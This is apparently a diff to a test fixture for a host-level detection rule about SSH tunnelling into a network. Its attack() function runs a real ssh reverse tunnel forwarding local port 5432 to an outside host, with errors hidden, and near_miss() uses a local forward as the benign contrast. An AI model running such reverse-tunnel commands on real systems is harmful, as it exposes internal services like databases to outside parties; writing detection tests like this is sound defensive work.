@@ -1,10 +1,9 @@
 # rule: SSH used as a tunnel into this network
 # where: host
+# needs: ssh
 attack() {
-    ln -s /bin/true ssh
-    ./ssh -fN -R 15432:127.0.0.1:5432 u@192.0.2.9
+    ssh -o BatchMode=yes -fN -R 15432:127.0.0.1:5432 u@192.0.2.9 2> /dev/null || :
 }
 near_miss() {
-    ln -s /bin/true ssh
-    ./ssh -fN -L 15432:127.0.0.1:5432 u@192.0.2.9
+    ssh -o BatchMode=yes -fN -L 15432:127.0.0.1:5432 u@192.0.2.9 2> /dev/null || :
 }
